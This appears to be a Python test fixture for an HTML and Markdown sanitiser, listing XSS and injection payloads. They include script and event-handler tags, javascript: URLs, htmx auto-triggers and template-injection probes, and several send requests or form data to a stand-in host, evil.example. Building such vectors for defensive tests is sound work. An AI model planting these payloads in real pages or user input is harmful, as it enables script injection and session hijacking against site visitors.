"""Text that wants to be code: a core of our own, and the larger corpus where there is one."""

from __future__ import annotations

import json
from dataclasses import dataclass

from tests.conftest import SHARED

CORPUS = SHARED / "hostile" / "given"
FILES = ("html", "markdown", "htmx", "html-ui")

# Each of these ran in a bare page; the control says how many still do.
LIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><option><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<video><source onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
)
# These need more than a bare page: a renderer of Markdown, htmx, or our own pages around them.
OTHERS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/a.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "*<img src=x onerror=alert(1)>*",
    '**"onmouseover=alert(1)**',
    "^[<img src=x onerror=alert(1)>]",
    "- <svg onload=alert(1)>",
    "## <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "<div hx-get='https://evil.example/' hx-trigger=load>x</div>",
    "<div data-hx-post='/logga-ut' data-hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<button hx-post=/logga-ut hx-trigger=revealed>x</button>",
    "<img src=/logga-ut>",
    "<form id=main action=https://evil.example><input name=csrf_token>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<template id=words data-saving=x></template>",
    "<a name=besked id=besked>x</a>",
    "{{ 7*7 }}${7*7}#{7*7}",
    "\u202egnirts desrever",
    "data-draft-url=/logga-ut",
)


@dataclass(frozen=True)
class Vector:
    """One text, and whether it ran by itself in a bare page."""

    text: str
    is_live: bool


def core() -> list[Vector]:
    """Return our own."""
    return [Vector(text, True) for text in LIVE] + [Vector(text, False) for text in OTHERS]


def corpus() -> list[Vector]:
    """Return the larger corpus, what is live first; empty where it is missing."""
    found: list[Vector] = []
    for name in FILES:
        path = CORPUS / f"{name}.jsonl"
        for line in path.read_text(encoding="utf-8").splitlines() if path.is_file() else []:
            row = json.loads(line)
            found.append(Vector(row["payload"], bool(row.get("live_chromium156"))))
    return sorted(found, key=lambda vector: not vector.is_live)
